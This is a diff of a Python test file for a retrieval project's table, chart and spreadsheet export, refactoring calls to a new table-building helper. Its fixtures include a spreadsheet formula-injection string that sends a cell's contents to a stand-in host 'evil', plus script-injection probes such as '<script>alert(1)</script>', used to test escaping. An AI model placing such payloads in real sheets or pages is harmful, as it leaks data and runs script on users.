@@ -11,10 +11,12 @@ from pathlib import Path
 import pytest
 from openpyxl import load_workbook
 
+from rag.domain import Passage
 from rag.errors import UsageError
 from rag.figures.asked import ask
 from rag.figures.read import read_all
-from rag.figures.table import Table, tabulate
+from rag.figures.selection import select
+from rag.figures.table import Table, laid_out
 from tests.rag.figures.making import passage
 from ui.figures.chart import Text, chart
 from ui.figures.columns import empty_line
@@ -24,13 +26,18 @@ from ui.figures.sheet import safe
 HOSTILE = '=HYPERLINK("http://evil/?"&A1,"点我")'
 
 
+def laid(held: list[Passage], question: str) -> Table:
+    figures = list(read_all(held))
+    return laid_out(select(figures, ask(question)), figures, {p.id: p for p in held})
+
+
 def table(question: str = "财政收入", *, title: str = "题目") -> Table:
     held = [
         passage("财政收入由6.9亿元增长到8.76亿元。", name="a", title=title),
         passage("2020年财政收入7亿元。", name="b", place="新宁县", title="<script>alert(1)</script>"),
         passage("2019年财政收入6亿元。", name="c", place="新宁县"),
     ]
-    return tabulate(list(read_all(held)), {p.id: p for p in held}, ask(question))
+    return laid(held, question)
 
 
 def test_csv_is_utf8_with_every_row_remark_and_source() -> None:
@@ -133,7 +140,7 @@ def test_the_unit_of_a_chart_is_that_of_what_is_drawn() -> None:
         passage("2022年新增就业7245人。", name="b", place="新宁县"),
         passage("2022年新增就业32.46万人。", name="c", place="湖南省"),
     ]
-    drawn = chart(tabulate(list(read_all(held)), {p.id: p for p in held}, ask("新增就业")))
+    drawn = chart(laid(held, "新增就业"))
     assert drawn is not None and drawn.title == "新增就业（单位：人）"
     axis, first = 90.0, [s for s in drawn.shapes if isinstance(s, Text) and s.words == "7020"]
     assert len(first) == 1 and first[0].x > axis + 20, "clear of the numbers beside the axis"
@@ -141,6 +148,6 @@ def test_the_unit_of_a_chart_is_that_of_what_is_drawn() -> None:
 
 @pytest.mark.parametrize("question", ["<img src=x onerror=alert(1)>", "各县 a b c 指标", "没有人报告过的指标"])
 def test_what_is_not_held_is_named_as_it_was_written(question: str) -> None:
-    said = empty_line(tabulate([], {}, ask(question)))
+    said = empty_line(laid([], question))
     (named,) = re.findall("“(.*)”", said)
     assert named and named in question
